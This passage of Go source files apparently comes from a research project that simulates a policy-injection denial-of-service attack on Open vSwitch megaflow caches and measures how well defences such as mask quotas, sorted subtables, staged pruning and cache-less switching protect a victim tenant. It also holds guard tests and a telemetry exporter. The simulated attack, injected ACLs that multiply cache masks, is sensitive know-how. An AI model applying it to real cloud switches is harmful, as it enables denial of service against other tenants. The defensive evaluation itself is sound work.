	k.RoundMaxIdle(30, 1000, 1000, 10)
	if k.Recoveries() != 1 || k.LastRecoveryTicks() != 20 {
		t.Fatalf("recoveries=%d ticks=%d, want one 20-tick recovery from the first trip", k.Recoveries(), k.LastRecoveryTicks())
	}
}

// TestAdmissionQueueAndFairDrop: the per-tick queue bound and the
// per-port fair-share quota.
func TestAdmissionQueueAndFairDrop(t *testing.T) {
	a := NewAdmission(AdmissionConfig{QueueDepth: 8, PortQuota: 3, BreakerTripAfter: -1})
	// Port 1 gets its quota, then fair-drops.
	for i := 0; i < 3; i++ {
		if !a.AdmitUpcall(0, 1) {
			t.Fatalf("port 1 upcall %d refused inside quota", i)
		}
	}
	if a.AdmitUpcall(0, 1) {
		t.Fatal("port 1 upcall over quota admitted")
	}
	// Other ports still admitted until the queue fills.
	admitted := 0
	for port := uint32(2); port <= 10; port++ {
		for i := 0; i < 3; i++ {
			if a.AdmitUpcall(0, port) {
				admitted++
			}
		}
	}
	if admitted != 5 { // queue depth 8 minus port 1's 3
		t.Fatalf("admitted %d after port 1, want 5 (queue depth)", admitted)
	}
	st := a.Stats()
	if st.FairDropped != 1 || st.Admitted != 8 {
		t.Fatalf("stats %+v, want 8 admitted / 1 fair drop", st)
	}
	// Next tick: fresh budget.
	if !a.AdmitUpcall(1, 1) {
		t.Fatal("port 1 refused on a fresh tick")
	}
}

// TestAdmissionBreakerCycle: sustained saturation opens the breaker,
// backoff doubles on failed probes, a clean probe round re-closes.
func TestAdmissionBreakerCycle(t *testing.T) {
	a := NewAdmission(AdmissionConfig{QueueDepth: 1, PortQuota: 1, BreakerTripAfter: 2, BreakerBackoff: 2, HalfOpenProbes: 1})
	saturate := func(now uint64) {
		a.AdmitUpcall(now, 1)
		a.AdmitUpcall(now, 2) // over depth: a drop, the tick reads saturated
	}
	saturate(0)
	saturate(1)
	// Tick 2 finalizes tick 1: two saturated ticks, breaker opens.
	if a.AdmitUpcall(2, 1) {
		t.Fatal("admitted while breaker should be open")
	}
	if st := a.Stats(); st.State != "open" || st.BreakerTrips != 1 {
		t.Fatalf("stats %+v, want open after 1 trip", st)
	}
	// Backoff 2 from tick 1: half-open at tick 3, one probe admitted.
	if !a.AdmitUpcall(4, 1) {
		t.Fatal("half-open probe refused")
	}
	if a.AdmitUpcall(4, 2) {
		t.Fatal("second upcall admitted past the probe budget")
	}
	// The probe tick was saturated (the refused second upcall): reopen
	// with doubled backoff.
	a.AdmitUpcall(5, 1)
	if st := a.Stats(); st.State != "open" || st.BreakerTrips != 2 {
		t.Fatalf("stats %+v, want reopened", st)
	}
	// Doubled backoff 4 from tick 4: half-open at tick 8; one clean
	// probe closes it.
	if !a.AdmitUpcall(8, 1) {
		t.Fatal("second half-open probe refused")
	}
	a.AdmitUpcall(9, 1)
	if st := a.Stats(); st.State != "closed" {
		t.Fatalf("stats %+v, want closed after clean probe round", st)
	}
}

// portMatch builds a match with an exact in_port and a src-dependent
// mask shape, so distinct srcs mint distinct masks.
func portMatch(port uint32, src uint64) flow.Match {
	var m flow.Match
	m.Key.Set(flow.FieldInPort, uint64(port))
	m.Key.Set(flow.FieldIPSrc, src)
	var k flow.Key
	k.Set(flow.FieldInPort, fullPort)
	k.Set(flow.FieldIPSrc, 0xffffffff>>(src%16))
	m.Mask = flow.Mask(k)
	m.Normalize()
	return m
}

// TestMaskLedgerQuotaIsolation: the attacker exhausts its quota and is
// refused; the victim tenant keeps minting; drops refund the budget.
func TestMaskLedgerQuotaIsolation(t *testing.T) {
	l := NewMaskLedger(MaskQuotaConfig{PerTenant: 2})
	l.BindPort(1, "victim")
	l.BindPort(2, "mallory")

	mint := func(port uint32, src uint64) flow.Match {
		m := portMatch(port, src)
		if err := l.AdmitMask(m); err != nil {
			t.Fatalf("mint port %d src %d refused: %v", port, src, err)
		}
		l.MaskMinted(m)
		return m
	}
	m1 := mint(2, 1)
	mint(2, 2)
	if err := l.AdmitMask(portMatch(2, 3)); !errors.Is(err, ErrMaskQuota) {
		t.Fatalf("mallory over quota: err %v, want ErrMaskQuota", err)
	}
	if l.Rejects() != 1 || l.Live("mallory") != 2 {
		t.Fatalf("rejects=%d live=%d, want 1/2", l.Rejects(), l.Live("mallory"))
	}
	// The victim is not charged for mallory's masks.
	mint(1, 5)
	mint(1, 6)
	if l.Live("victim") != 2 {
		t.Fatalf("victim live %d, want 2", l.Live("victim"))
	}
	// Dropping a mallory mask refunds the quota.
	l.MaskDropped(m1.Mask)
	if err := l.AdmitMask(portMatch(2, 3)); err != nil {
		t.Fatalf("mallory refused after refund: %v", err)
	}
	// Unbound ports and wildcard in_port masks are exempt.
	if err := l.AdmitMask(portMatch(99, 1)); err != nil {
		t.Fatalf("unbound port refused: %v", err)
	}
	wild := portMatch(2, 50)
	k := flow.Key(wild.Mask)
	k.Set(flow.FieldInPort, 0)
	wild.Mask = flow.Mask(k)
	if tenant := l.tenantForLocked(wild); tenant != "" {
		t.Fatalf("wildcard in_port attributed to %q", tenant)
	}
}

// TestGuardSummaryKeys: only configured guards contribute summary keys.
func TestGuardSummaryKeys(t *testing.T) {
	g := New(Config{KillSwitch: &KillSwitchConfig{}})
	sum := g.Summary()
	if _, ok := sum["killswitch_trips"]; !ok {
		t.Fatal("killswitch summary key missing")
	}
	if _, ok := sum["upcalls_dropped"]; ok {
		t.Fatal("admission key present without admission guard")
	}
}
