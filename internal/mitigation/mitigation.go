// Package mitigation evaluates the countermeasures the paper's demo
// discussion raises ("improved heuristics in OVS, flow cache-less
// softswitches") plus the obvious quota-based defences, by subjecting each
// variant to the same policy-injection attack and measuring the victim's
// per-packet cost before and after.
//
// The punchline the benches reproduce:
//
//   - sorted TSS (hit-count subtable ranking, which OVS adopted after
//     this paper) rescues *warm* traffic — the victim-facing subtables
//     out-rank the attacker's low-rate trickle — but the cold-miss path
//     still scans every attacker mask before the upcall;
//   - a reject-mode mask quota caps the damage but can displace the
//     victim's own megaflow, turning its packets into upcalls;
//   - quota + LRU eviction + ranking recovers the victim almost fully;
//   - the cache-less baseline is immune by construction, at the price of
//     losing the near-free cache hits on friendly traffic.
package mitigation

import (
	"fmt"
	"net/netip"
	"time"

	"policyinject/internal/attack"
	"policyinject/internal/baseline"
	"policyinject/internal/cache"
	"policyinject/internal/conntrack"
	"policyinject/internal/dataplane"
	"policyinject/internal/flow"
	"policyinject/internal/flowtable"
	"policyinject/internal/metrics"
	"policyinject/internal/revalidator"
	"policyinject/internal/sim"
	"policyinject/internal/traffic"
)

// Target is a dataplane under evaluation; both dataplane.Switch and
// baseline.Switch satisfy it. The frame-first ProcessFrames entry is part
// of the contract so sim.MeasureCost can drive wire bursts.
type Target interface {
	InstallRule(r flowtable.Rule) *flowtable.Rule
	ProcessKey(now uint64, k flow.Key) dataplane.Decision
	ProcessBatch(now uint64, keys []flow.Key, out []dataplane.Decision) []dataplane.Decision
	ProcessFrames(now uint64, fb *dataplane.FrameBatch, out []dataplane.Decision) []dataplane.Decision
}

// Variant is a named dataplane configuration to evaluate.
type Variant struct {
	Name  string
	Build func() Target
	// Reval, when non-nil, attaches a revalidator to the built target and
	// makes Evaluate run maintenance rounds (covert stream cycling, dump,
	// flow-limit adaptation) between attack residence and the post-attack
	// measurement — the control-plane dimension of the comparison.
	Reval *revalidator.Config
}

// Standard variants.

// Vanilla is the stock OVS model: EMC + unbounded megaflow TSS.
func Vanilla() Variant {
	return Variant{Name: "vanilla", Build: func() Target {
		return dataplane.New("vanilla")
	}}
}

// NoEMC models the kernel datapath (no exact-match cache).
func NoEMC() Variant {
	return Variant{Name: "no-emc", Build: func() Target {
		return dataplane.New("no-emc", dataplane.WithoutEMC())
	}}
}

// SMC models OVS 2.10's signature-match cache in place of the EMC: vastly
// more resident flows per byte, at one extra verification per hit. The
// covert stream is far too small to thrash it, so warm victim flows stay
// shielded even while the mask population explodes — a different
// mask-scan economics than either EMC variant.
func SMC() Variant {
	return Variant{Name: "smc", Build: func() Target {
		return dataplane.New("smc", dataplane.WithoutEMC(), dataplane.WithSMC(cache.SMCConfig{}))
	}}
}

// EMCPlusSMC is the full OVS 2.10 userspace hierarchy: EMC, then SMC, then
// the megaflow TSS.
func EMCPlusSMC() Variant {
	return Variant{Name: "emc+smc", Build: func() Target {
		return dataplane.New("emc+smc", dataplane.WithSMC(cache.SMCConfig{}))
	}}
}

// SortedTSS enables hit-count subtable ordering.
func SortedTSS() Variant {
	return Variant{Name: "sorted-tss", Build: func() Target {
		return dataplane.New("sorted-tss",
			dataplane.WithoutEMC(),
			dataplane.WithMegaflow(cache.MegaflowConfig{SortByHits: true, SortEvery: 256}))
	}}
}

// StagedPruning enables staged subtable lookups with signature/ports
// pruning and EWMA scan ranking — the OVS countermeasure pair
// (classifier staged indices + ports trie) this repo models as
// cache.MegaflowConfig.StagedPruning. Unlike the quota defences it
// changes no caching policy: every attacker megaflow stays resident, but
// nearly all of their subtables are rejected without a hash probe, so
// the mask ladder loses its leverage for victim traffic.
func StagedPruning() Variant {
	return Variant{Name: "staged-pruning", Build: func() Target {
		return dataplane.New("staged-pruning", dataplane.WithoutEMC(), dataplane.WithStagedPruning())
	}}
}

// MaskCap rejects megaflows beyond n distinct masks.
func MaskCap(n int) Variant {
	return Variant{Name: fmt.Sprintf("mask-cap-%d", n), Build: func() Target {
		return dataplane.New("mask-cap",
			dataplane.WithoutEMC(),
			dataplane.WithMegaflow(cache.MegaflowConfig{MaxMasks: n}))
	}}
}

// MaskCapLRUSorted combines the LRU mask quota with hit-count subtable
// ordering: the victim's hot mask both survives the quota and floats to
// the front of the scan.
func MaskCapLRUSorted(n int) Variant {
	return Variant{Name: fmt.Sprintf("cap-lru-sort-%d", n), Build: func() Target {
		return dataplane.New("cap-lru-sort",
			dataplane.WithoutEMC(),
			dataplane.WithMegaflow(cache.MegaflowConfig{
				MaxMasks: n, MaskEvictLRU: true,
				SortByHits: true, SortEvery: 256,
			}))
	}}
}

// Stateful attaches a connection tracker and compiles security groups
// statefully. Included to check the obvious question — "doesn't conntrack
// save us?" — with the nuanced honest answer: established flows ride one
// broad early ct_state=+est megaflow and are largely shielded, but every
// new connection's setup (and all denied traffic) scans the attacker's
// ladder, so the attack becomes a connection-setup DoS.
func Stateful() Variant {
	return Variant{Name: "stateful-sg", Build: func() Target {
		return dataplane.New("stateful-sg",
			dataplane.WithoutEMC(),
			dataplane.WithConntrack(conntrack.Config{}))
	}}
}

// CacheLess is the ESWITCH-style direct classifier.
func CacheLess() Variant {
	return Variant{Name: "cache-less", Build: func() Target {
		return baseline.New(baseline.Config{})
	}}
}

// slowDump is the revalidator shape the flow-limit pair shares: one worker
// dumping 64 flows per unit, so the 512-flow attack overruns every round,
// and a floor below the attack's flow count so the staleness trim engages.
func slowDump(fixed bool) *revalidator.Config {
	return &revalidator.Config{
		Interval: 1, Workers: 1, DumpRate: 64,
		MinFlowLimit: 256, FixedLimit: fixed,
	}
}

// FixedFlowLimit is the revalidator with the backoff heuristic disabled:
// dumps overrun, the limit stays at the ceiling, and every attacker flow
// stays resident through the measurement.
func FixedFlowLimit() Variant {
	return Variant{Name: "fixed-limit", Build: func() Target {
		return dataplane.New("fixed-limit", dataplane.WithoutEMC())
	}, Reval: slowDump(true)}
}

// AdaptiveFlowLimit is stock OVS backoff: the overrunning dump slashes the
// limit to the floor and the next dumps trim the stalest flows — the
// attacker's trickle-refreshed entries — while the victim's warm megaflows
// survive. The comparison with FixedFlowLimit shows what the heuristic
// buys (a pruned mask scan for warm traffic) and what it costs (the
// trimmed covert flows reinstall through the upcall path every cycle).
func AdaptiveFlowLimit() Variant {
	return Variant{Name: "adaptive-limit", Build: func() Target {
		return dataplane.New("adaptive-limit", dataplane.WithoutEMC())
	}, Reval: slowDump(false)}
}

// Outcome is the measured effect of the attack on one variant.
type Outcome struct {
	Name       string
	Masks      int           // megaflow masks after the attack (0 for cache-less)
	CostBefore time.Duration // victim per-packet cost pre-attack
	CostAfter  time.Duration // victim per-packet cost with the attack resident
	Slowdown   float64       // CostAfter / CostBefore
	FlowLimit  int           // revalidator flow limit after maintenance (0: no revalidator)
	// AvgScan is the average subtables per megaflow lookup over the run:
	// scan depth for flat-scan variants, subtables physically probed
	// (stage hashes + full probes) for staged-pruning ones — the column
	// that shows what pruning buys without evicting anything.
	AvgScan float64
}

func (o Outcome) String() string {
	s := fmt.Sprintf("%-14s masks=%-5d before=%-8v after=%-8v slowdown=%.1fx",
		o.Name, o.Masks, o.CostBefore, o.CostAfter, o.Slowdown)
	if o.AvgScan > 0 {
		s += fmt.Sprintf(" avg-scan=%.1f", o.AvgScan)
	}
	if o.FlowLimit > 0 {
		s += fmt.Sprintf(" flow-limit=%d", o.FlowLimit)
	}
	return s
}

// Evaluate runs the attack against each variant and reports the outcomes.
// The scenario mirrors the CMS layout: the victim's pod lives on port 1
// with its own whitelist, the attacker's on port 66 with the injected ACL.
func Evaluate(atk *attack.Attack, variants []Variant, samples int) ([]Outcome, error) {
	if samples <= 0 {
		samples = 128
	}
	keys, err := atk.Keys()
	if err != nil {
		return nil, err
	}
	const attackerPort = 66
	for i := range keys {
		keys[i].Set(flow.FieldInPort, attackerPort)
	}
	theACL, err := atk.BuildACL()
	if err != nil {
		return nil, err
	}
	aclRules, err := theACL.Compile()
	if err != nil {
		return nil, err
	}

	var out []Outcome
	for _, v := range variants {
		tgt := v.Build()

		// Victim: a simple service whitelist on port 1, eth_type pinned as
		// the CMS compiler does.
		var m flow.Match
		m.Key.Set(flow.FieldInPort, 1)
		m.Mask.SetExact(flow.FieldInPort)
		m.Key.Set(flow.FieldEthType, flow.EthTypeIPv4)
		m.Mask.SetExact(flow.FieldEthType)
		m.Key.Set(flow.FieldIPSrc, 0x0a0a0005) // 10.10.0.5/24 client
		m.Mask.SetPrefix(flow.FieldIPSrc, 24)
		tgt.InstallRule(flowtable.Rule{Match: m, Priority: 100, Action: flowtable.Action{Verdict: flowtable.Allow}})
		var dm flow.Match
		dm.Key.Set(flow.FieldInPort, 1)
		dm.Mask.SetExact(flow.FieldInPort)
		tgt.InstallRule(flowtable.Rule{Match: dm, Priority: 0})

		victim := newChurnVictim()

		warmup(tgt, victim, 1)
		before := sim.MeasureCost(tgt, victim, 1, samples)

		// Attacker: inject the ACL at port 66 and run the covert stream
		// twice (the second pass proves residence).
		for _, r := range aclRules {
			r.Match.Key.Set(flow.FieldInPort, attackerPort)
			r.Match.Mask.SetExact(flow.FieldInPort)
			tgt.InstallRule(r)
		}
		for pass := 0; pass < 2; pass++ {
			for _, k := range keys {
				tgt.ProcessKey(2, k)
			}
		}

		// Maintenance window: variants with a revalidator live through
		// eight dump rounds with the covert stream (and a victim trickle)
		// still cycling, as the real timeline would, before the post-attack
		// measurement opens — long enough for the backoff to hit its floor
		// and the staleness trim to reach steady state.
		now, flowLimit := uint64(3), 0
		if v.Reval != nil {
			if rt, ok := tgt.(revalidator.Target); ok {
				rev := revalidator.New(*v.Reval)
				rev.Attach(rt)
				for round := 0; round < 8; round++ {
					for i := 0; i < 256; i++ {
						tgt.ProcessKey(now, victim.Next())
					}
					for _, k := range keys {
						tgt.ProcessKey(now, k)
					}
					rev.Tick(now)
					now++
				}
				flowLimit = rev.FlowLimit()
			}
		}

		warmup(tgt, victim, now)
		after := sim.MeasureCost(tgt, victim, now, samples)

		o := Outcome{
			Name:       v.Name,
			CostBefore: before,
			CostAfter:  after,
			Slowdown:   float64(after) / float64(before),
			FlowLimit:  flowLimit,
		}
		if dp, ok := tgt.(*dataplane.Switch); ok {
			o.Masks = dp.Megaflow().NumMasks()
			o.AvgScan = dp.Megaflow().AvgMasksScanned()
		}
		out = append(out, o)
	}
	return out, nil
}

// warmup drives enough victim traffic through the target to reach steady
// state (caches populated, hit-count orderings settled) before a
// measurement window opens.
func warmup(tgt Target, gen traffic.Generator, now uint64) {
	for i := 0; i < 2048; i++ {
		tgt.ProcessKey(now, gen.Next())
	}
}

// churnVictim models a realistic service workload at the victim port:
// 90% packets from established connections (the iperf-like flow set) and
// 10% from new remote clients — connection churn and background Internet
// noise. The churn component is what keeps "sorted TSS" from being a full
// fix: new-client packets land in cold subtables or miss outright, paying
// the whole mask scan regardless of ordering.
type churnVictim struct {
	base *traffic.Victim
	lcg  uint64
	i    int
}

func newChurnVictim() *churnVictim {
	return &churnVictim{
		base: traffic.NewVictim(traffic.VictimConfig{
			Src:    netip.MustParseAddr("10.10.0.5"),
			Dst:    netip.MustParseAddr("172.16.0.2"),
			InPort: 1,
		}),
		lcg: 0x9e3779b97f4a7c15,
	}
}

func (c *churnVictim) Next() flow.Key {
	c.i++
	if c.i%10 != 0 {
		return c.base.Next()
	}
	c.lcg = c.lcg*6364136223846793005 + 1442695040888963407
	var k flow.Key
	k.Set(flow.FieldInPort, 1)
	k.Set(flow.FieldEthType, flow.EthTypeIPv4)
	k.Set(flow.FieldIPProto, flow.ProtoTCP)
	k.Set(flow.FieldIPSrc, c.lcg&0xffffffff) // arbitrary remote client
	k.Set(flow.FieldIPDst, 0xac100002)
	k.Set(flow.FieldTPSrc, 1024+(c.lcg>>32)%60000)
	k.Set(flow.FieldTPDst, (c.lcg>>48)&0xffff)
	return k
}

// Table renders outcomes for cmd/figures.
func Table(outcomes []Outcome) *metrics.Table {
	t := &metrics.Table{Header: []string{"variant", "masks", "ns_before", "ns_after", "slowdown", "avg_scan", "flow_limit"}}
	for _, o := range outcomes {
		lim := "-"
		if o.FlowLimit > 0 {
			lim = fmt.Sprintf("%d", o.FlowLimit)
		}
		t.AddRow(o.Name, o.Masks,
			float64(o.CostBefore.Nanoseconds()),
			float64(o.CostAfter.Nanoseconds()),
			o.Slowdown, o.AvgScan, lim)
	}
	return t
}
