package mitigation

import (
	"strings"
	"testing"

	"policyinject/internal/attack"
	"policyinject/internal/flow"
	"policyinject/internal/flowtable"
)

func evaluate(t *testing.T, variants []Variant) []Outcome {
	t.Helper()
	out, err := Evaluate(attack.TwoField(), variants, 64)
	if err != nil {
		t.Fatal(err)
	}
	if len(out) != len(variants) {
		t.Fatalf("outcomes = %d", len(out))
	}
	return out
}

// TestVanillaIsVulnerable: the stock configuration slows down massively.
func TestVanillaIsVulnerable(t *testing.T) {
	out := evaluate(t, []Variant{NoEMC()})
	o := out[0]
	// The victim's own /24 whitelist shares trie paths with the attack
	// values and perturbs a handful of divergence depths, so slightly
	// fewer than the pristine 512 masks appear (see EXPERIMENTS.md).
	if o.Masks < 480 {
		t.Errorf("attack injected only %d masks", o.Masks)
	}
	if o.Slowdown < 5 {
		t.Errorf("slowdown = %.1fx; the attack should bite hard\n%v", o.Slowdown, o)
	}
}

// TestMaskCapContainsMaskCount: the quota holds the line on masks — but
// note the trade-off the outcome numbers expose: in reject mode the
// victim's own megaflow may be the one refused, turning every victim
// packet into an upcall. The quota bounds the damage, it does not undo it.
func TestMaskCapContainsMaskCount(t *testing.T) {
	out := evaluate(t, []Variant{NoEMC(), MaskCap(64)})
	vanilla, capped := out[0], out[1]
	if capped.Masks > 64 {
		t.Errorf("mask cap exceeded: %d", capped.Masks)
	}
	if capped.Slowdown >= vanilla.Slowdown {
		t.Errorf("cap (%.1fx) did not improve on vanilla (%.1fx)",
			capped.Slowdown, vanilla.Slowdown)
	}
}

// TestMaskCapLRUSortedRestoresVictim: the combined mitigation keeps the
// victim's hot mask resident and early; its cost returns to near-healthy.
func TestMaskCapLRUSortedRestoresVictim(t *testing.T) {
	out := evaluate(t, []Variant{NoEMC(), MaskCapLRUSorted(64)})
	vanilla, combo := out[0], out[1]
	if combo.Masks > 64 {
		t.Errorf("mask cap exceeded: %d", combo.Masks)
	}
	if combo.Slowdown > vanilla.Slowdown/4 {
		t.Errorf("cap+lru+sort = %.1fx vs vanilla %.1fx; expected a strong recovery",
			combo.Slowdown, vanilla.Slowdown)
	}
}

// TestCacheLessIsImmune: the ESWITCH-style baseline's cost is unchanged
// within measurement noise.
func TestCacheLessIsImmune(t *testing.T) {
	out := evaluate(t, []Variant{CacheLess()})
	o := out[0]
	if o.Masks != 0 {
		t.Errorf("cache-less variant reported %d masks", o.Masks)
	}
	if o.Slowdown > 3 { // generous: timer noise on busy CI boxes
		t.Errorf("cache-less slowdown = %.1fx; expected ~1x\n%v", o.Slowdown, o)
	}
}

// TestRelativeOrdering: the headline comparison — vanilla suffers far more
// than the capped and cache-less variants.
func TestRelativeOrdering(t *testing.T) {
	out := evaluate(t, []Variant{NoEMC(), MaskCap(64), CacheLess()})
	vanilla, capped, cacheless := out[0], out[1], out[2]
	if vanilla.Slowdown <= capped.Slowdown {
		t.Errorf("vanilla (%.1fx) should suffer more than mask-cap (%.1fx)",
			vanilla.Slowdown, capped.Slowdown)
	}
	if vanilla.Slowdown < 5*cacheless.Slowdown {
		t.Errorf("vanilla (%.1fx) should suffer far more than cache-less (%.1fx)",
			vanilla.Slowdown, cacheless.Slowdown)
	}
}

// TestStatefulIsNotAMitigation answers the natural objection: OpenStack
// security groups are stateful, so does conntrack blunt the attack? No —
// the stateless-compiled attack ACL mints its masks regardless, and the
// victim's (stateless) path still scans them.
func TestStatefulIsNotAMitigation(t *testing.T) {
	out := evaluate(t, []Variant{NoEMC(), Stateful()})
	vanilla, stateful := out[0], out[1]
	if stateful.Slowdown < vanilla.Slowdown/10 {
		t.Errorf("stateful (%.1fx) an order of magnitude better than vanilla (%.1fx)? model drift",
			stateful.Slowdown, vanilla.Slowdown)
	}
	if stateful.Masks < 450 {
		t.Errorf("stateful variant has only %d masks", stateful.Masks)
	}
}

func TestTableRendering(t *testing.T) {
	out := evaluate(t, []Variant{NoEMC()})
	tbl := Table(out).String()
	for _, want := range []string{"variant", "no-emc", "slowdown"} {
		if !strings.Contains(tbl, want) {
			t.Errorf("table missing %q:\n%s", want, tbl)
		}
	}
	if !strings.Contains(out[0].String(), "no-emc") {
		t.Error("Outcome.String missing name")
	}
}

func TestEvaluateRejectsBadAttack(t *testing.T) {
	if _, err := Evaluate(&attack.Attack{}, []Variant{NoEMC()}, 16); err == nil {
		t.Fatal("invalid attack accepted")
	}
}

// TestSortedTSSRescuesWarmTraffic documents what the model (honestly)
// shows about hit-count subtable ranking — the mitigation OVS adopted
// *after* this paper: traffic whose megaflows stay warm (established
// flows and recurring churn combinations alike) is largely rescued,
// because the victim-facing subtables out-rank the attacker's trickle.
func TestSortedTSSRescuesWarmTraffic(t *testing.T) {
	out := evaluate(t, []Variant{NoEMC(), SortedTSS()})
	vanilla, sorted := out[0], out[1]
	if sorted.Slowdown >= vanilla.Slowdown/4 {
		t.Errorf("sorted TSS (%.1fx) barely improved on vanilla (%.1fx)",
			sorted.Slowdown, vanilla.Slowdown)
	}
}

// TestSortedTSSMissPathStillExposed is the flip side: a cold packet that
// misses the megaflow cache scans every attacker subtable before the
// upcall, ranking or not — the residual exposure window (flow-limit
// churn, ranking epochs, novel combos).
func TestSortedTSSMissPathStillExposed(t *testing.T) {
	out, err := Evaluate(attack.TwoField(), []Variant{SortedTSS()}, 64)
	if err != nil {
		t.Fatal(err)
	}
	_ = out
	// Build the same scenario by hand to probe a guaranteed-cold key.
	v := SortedTSS().Build()
	var m flow.Match
	m.Key.Set(flow.FieldInPort, 1)
	m.Mask.SetExact(flow.FieldInPort)
	v.InstallRule(flowtable.Rule{Match: m, Priority: 0})
	atk := attack.TwoField()
	theACL, _ := atk.BuildACL()
	rules, _ := theACL.Compile()
	for _, r := range rules {
		r.Match.Key.Set(flow.FieldInPort, 66)
		r.Match.Mask.SetExact(flow.FieldInPort)
		v.InstallRule(r)
	}
	keys, _ := atk.Keys()
	for i := range keys {
		keys[i].Set(flow.FieldInPort, 66)
		v.ProcessKey(1, keys[i])
	}
	var cold flow.Key
	cold.Set(flow.FieldInPort, 1)
	cold.Set(flow.FieldEthType, flow.EthTypeIPv4)
	cold.Set(flow.FieldIPSrc, 0xdeadbeef)
	d := v.ProcessKey(2, cold)
	if d.MasksScanned < 450 {
		t.Errorf("cold miss scanned only %d masks; the miss path should pay the full scan", d.MasksScanned)
	}
}

// TestStagedPruningRestoresVictim: staged pruning leaves every attacker
// megaflow resident (full mask count) yet strips the ladder's leverage —
// the victim's per-packet scan collapses to a handful of physical
// subtable probes and the slowdown improves on vanilla by a wide margin.
func TestStagedPruningRestoresVictim(t *testing.T) {
	out := evaluate(t, []Variant{NoEMC(), StagedPruning()})
	vanilla, staged := out[0], out[1]
	if staged.Masks < 480 {
		t.Errorf("staged pruning should not suppress masks; got %d", staged.Masks)
	}
	if staged.Slowdown*2 > vanilla.Slowdown {
		t.Errorf("staged pruning (%.1fx) should improve on vanilla (%.1fx) by >= 2x",
			staged.Slowdown, vanilla.Slowdown)
	}
	if staged.AvgScan >= vanilla.AvgScan/4 {
		t.Errorf("avg scan %.1f not <= vanilla/4 (%.1f)", staged.AvgScan, vanilla.AvgScan)
	}
	if !strings.Contains(Table(out).String(), "avg_scan") {
		t.Error("table lost the avg_scan column")
	}
}
