package telemetry

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"
	"strings"
)

// WriteProm renders the snapshot in Prometheus text exposition format
// (version 0.0.4): counters and gauges as their native types,
// histograms as summaries with p50/p95/p99 quantiles plus _sum and
// _count, and a companion <name>_max gauge for the exact maximum.
func (s *Snapshot) WriteProm(w io.Writer) error {
	bw := bufio.NewWriter(w)
	for i := range s.Counters {
		c := &s.Counters[i]
		if i == 0 || s.Counters[i-1].Name != c.Name {
			fmt.Fprintf(bw, "# TYPE %s counter\n", c.Name)
		}
		fmt.Fprintf(bw, "%s%s %d\n", c.Name, promLabels(c.Labels, ""), c.Value)
	}
	for i := range s.Gauges {
		g := &s.Gauges[i]
		if i == 0 || s.Gauges[i-1].Name != g.Name {
			fmt.Fprintf(bw, "# TYPE %s gauge\n", g.Name)
		}
		fmt.Fprintf(bw, "%s%s %s\n", g.Name, promLabels(g.Labels, ""), promFloat(g.Value))
	}
	for i := range s.Histograms {
		h := &s.Histograms[i]
		if i == 0 || s.Histograms[i-1].Name != h.Name {
			fmt.Fprintf(bw, "# TYPE %s summary\n", h.Name)
		}
		for _, q := range [...]struct {
			q float64
			s string
		}{{0.5, "0.5"}, {0.95, "0.95"}, {0.99, "0.99"}} {
			fmt.Fprintf(bw, "%s%s %d\n", h.Name, promLabels(h.Labels, q.s), h.Quantile(q.q))
		}
		fmt.Fprintf(bw, "%s_sum%s %d\n", h.Name, promLabels(h.Labels, ""), h.Sum)
		fmt.Fprintf(bw, "%s_count%s %d\n", h.Name, promLabels(h.Labels, ""), h.Count)
	}
	for i := range s.Histograms {
		h := &s.Histograms[i]
		if i == 0 || s.Histograms[i-1].Name != h.Name {
			fmt.Fprintf(bw, "# TYPE %s_max gauge\n", h.Name)
		}
		fmt.Fprintf(bw, "%s_max%s %d\n", h.Name, promLabels(h.Labels, ""), h.Max)
	}
	return bw.Flush()
}

// promLabels renders a label set (plus an optional quantile label) as
// {k="v",...}, or "" when empty.
func promLabels(labels []Label, quantile string) string {
	if len(labels) == 0 && quantile == "" {
		return ""
	}
	var b strings.Builder
	b.WriteByte('{')
	for i, l := range labels {
		if i > 0 {
			b.WriteByte(',')
		}
		b.WriteString(l.Key)
		b.WriteString(`="`)
		b.WriteString(promEscape(l.Value))
		b.WriteByte('"')
	}
	if quantile != "" {
		if len(labels) > 0 {
			b.WriteByte(',')
		}
		b.WriteString(`quantile="`)
		b.WriteString(quantile)
		b.WriteByte('"')
	}
	b.WriteByte('}')
	return b.String()
}

// promEscape escapes a label value per the exposition format.
func promEscape(v string) string {
	if !strings.ContainsAny(v, "\\\"\n") {
		return v
	}
	r := strings.NewReplacer(`\`, `\\`, `"`, `\"`, "\n", `\n`)
	return r.Replace(v)
}

// promFloat renders a gauge value; integral values print without a
// fractional part so deterministic runs produce stable text.
func promFloat(v float64) string {
	if v == float64(int64(v)) {
		return fmt.Sprintf("%d", int64(v))
	}
	return fmt.Sprintf("%g", v)
}

// jsonSnapshot mirrors Snapshot for JSON exposition, with histogram
// quantiles precomputed.
type jsonSnapshot struct {
	TakenAt    string          `json:"taken_at"`
	Counters   []jsonCounter   `json:"counters"`
	Gauges     []jsonGauge     `json:"gauges"`
	Histograms []jsonHistogram `json:"histograms"`
}

type jsonCounter struct {
	Name   string            `json:"name"`
	Labels map[string]string `json:"labels,omitempty"`
	Value  uint64            `json:"value"`
}

type jsonGauge struct {
	Name   string            `json:"name"`
	Labels map[string]string `json:"labels,omitempty"`
	Value  float64           `json:"value"`
}

type jsonHistogram struct {
	Name   string            `json:"name"`
	Labels map[string]string `json:"labels,omitempty"`
	Count  uint64            `json:"count"`
	Sum    uint64            `json:"sum"`
	Mean   float64           `json:"mean"`
	P50    uint64            `json:"p50"`
	P95    uint64            `json:"p95"`
	P99    uint64            `json:"p99"`
	Max    uint64            `json:"max"`
}

func labelMap(labels []Label) map[string]string {
	if len(labels) == 0 {
		return nil
	}
	m := make(map[string]string, len(labels))
	for _, l := range labels {
		m[l.Key] = l.Value
	}
	return m
}

// WriteJSON renders the snapshot as one indented JSON document.
func (s *Snapshot) WriteJSON(w io.Writer) error {
	js := jsonSnapshot{
		TakenAt:    s.TakenAt.UTC().Format("2006-01-02T15:04:05.000Z"),
		Counters:   make([]jsonCounter, len(s.Counters)),
		Gauges:     make([]jsonGauge, len(s.Gauges)),
		Histograms: make([]jsonHistogram, len(s.Histograms)),
	}
	for i := range s.Counters {
		c := &s.Counters[i]
		js.Counters[i] = jsonCounter{Name: c.Name, Labels: labelMap(c.Labels), Value: c.Value}
	}
	for i := range s.Gauges {
		g := &s.Gauges[i]
		js.Gauges[i] = jsonGauge{Name: g.Name, Labels: labelMap(g.Labels), Value: g.Value}
	}
	for i := range s.Histograms {
		h := &s.Histograms[i]
		js.Histograms[i] = jsonHistogram{
			Name: h.Name, Labels: labelMap(h.Labels),
